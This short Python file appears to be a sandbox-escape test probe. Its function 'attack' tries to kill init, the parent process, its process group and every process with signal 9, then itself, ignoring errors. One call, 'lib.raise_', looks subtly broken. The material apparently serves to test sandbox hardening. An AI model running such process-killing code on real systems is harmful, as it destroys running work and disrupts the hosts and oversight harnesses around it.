# From: signals to the process that is around the sandbox.
# Ends: any value or error crash or error exit or error exception
# Ruins: ends the interpreter
def attack(probe):
    import ctypes
    import os

    lib = ctypes.CDLL(None)
    for way in (lambda: os.kill(1, 9), lambda: os.kill(os.getppid(), 9), lambda: os.killpg(0, 9), lambda: lib.kill(-1, 9), lambda: lib.raise_(9), lambda: os.kill(os.getpid(), 9)):
        try:
            way()
        except Exception:
            pass
    return 1
